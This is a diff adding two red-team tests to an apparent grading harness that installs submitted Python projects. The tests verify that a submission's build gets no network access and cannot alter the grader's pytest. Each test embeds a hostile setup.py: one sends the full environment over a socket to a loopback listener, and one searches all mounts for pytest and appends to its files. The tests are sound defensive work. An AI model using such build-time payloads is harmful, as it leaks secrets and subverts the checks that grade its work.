@@ -406,3 +406,134 @@ def test_a_backend_without_editable_support_gets_a_regular_install_without_its_c
         check=False,
     )
     assert done.stdout.strip() == "<class 'oldst.One'>", done.stderr
+
+
+# (e) the project's own build runs its code: never with the network (red-team R1) ---------------------------
+
+
+def test_the_projects_own_build_runs_without_the_network_and_its_backend_is_removed_after(area):
+    """A `setup.py` that phones a service on the host's loopback while it builds: no connection arrives,
+    and the package is still installed editable (its backend came from the index as wheels beforehand)."""
+    import socket
+    import threading
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    calls: list[bytes] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            with conn:
+                calls.append(conn.recv(4096))
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    setup = f"""
+        import os, socket
+        from setuptools import setup
+        try:
+            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
+                s.sendall(repr(dict(os.environ)).encode())
+        except OSError:
+            pass
+        setup(name="phonehome", version="0.1.0", packages=["phonehome"],
+              entry_points={{"phonehome.plugins": ["one = phonehome:One"]}})
+    """
+    repo = _repo(
+        area,
+        "phonehome",
+        {
+            "pyproject.toml": """
+                [build-system]
+                requires = ["setuptools>=64"]
+                build-backend = "setuptools.build_meta"
+                """,
+            "setup.py": setup,
+            "phonehome/__init__.py": "class One:\n    pass\n",
+        },
+    )
+    try:
+        env = install.ensure_env(repo, cache_root=area / "cache", timeout=300)
+    finally:
+        stop.set()
+        thread.join(timeout=5)
+        listener.close()
+    assert calls == [], "the build reached the host's loopback"
+    assert "installed editable" in env.project, env.project
+    site = next(env.venv.glob("lib/python3*/site-packages"))
+    names = {p.name.split("-", 1)[0].lower() for p in site.iterdir() if p.name.endswith(".dist-info")}
+    assert "phonehome" in names
+    # The backend served the build and left: the suite runs with the submission's dependencies only.
+    assert "setuptools" not in names and "wheel" not in names, sorted(names)
+
+
+_FIND_PYTEST = """
+    import os
+    def _pytest_files():
+        seen = set()
+        for line in open("/proc/self/mountinfo"):
+            top = line.split()[4]
+            for root, dirs, files in os.walk(top):
+                if root.count(os.sep) - top.count(os.sep) > 7 or root.startswith(("/proc", "/sys", "/dev")):
+                    dirs[:] = []
+                    continue
+                if root.endswith(os.sep + "_pytest") and "python.py" in files:
+                    path = os.path.join(root, "python.py")
+                    if path not in seen:
+                        seen.add(path)
+                        yield path
+    for path in _pytest_files():
+        try:
+            with open(path, "a") as handle:
+                handle.write("\\n# patched by the submission's setup.py\\n")
+        except OSError:
+            pass
+"""
+
+
+def test_the_projects_own_build_cannot_write_the_venv_the_suite_runs_in(area):
+    """Red-team R2: a setup.py that looks for every pytest it can reach and appends to it. The suite's
+    venv keeps the grader's pinned pytest as installed; the project still gets its metadata."""
+    setup = (
+        textwrap.dedent(_FIND_PYTEST)
+        + 'from setuptools import setup\nsetup(name="patcher", version="0.1.0", packages=["patcher"],\n'
+        + '      entry_points={"patcher.plugins": ["one = patcher:One"]})\n'
+    )
+    repo = _repo(
+        area,
+        "patcher",
+        {
+            "pyproject.toml": (
+                '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n'
+            ),
+            "patcher/__init__.py": "class One:\n    pass\n",
+        },
+    )
+    (repo / "setup.py").write_text(setup, encoding="utf-8")
+    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
+    subprocess.run(
+        ["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "setup"], cwd=repo, check=True
+    )
+    env = install.ensure_env(repo, cache_root=area / "cache", timeout=300)
+    assert "installed editable" in env.project, env.project
+    site = next(env.venv.glob("lib/python3*/site-packages"))
+    assert "patched by the submission" not in (site / "_pytest" / "python.py").read_text()
+    probe = (
+        "from importlib.metadata import entry_points as e; print(e(group='patcher.plugins')['one'].load())"
+    )
+    done = subprocess.run(
+        [str(env.python), "-c", probe],
+        env={**os.environ, "PYTHONPATH": str(repo)},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.stdout.strip() == "<class 'patcher.One'>", done.stderr
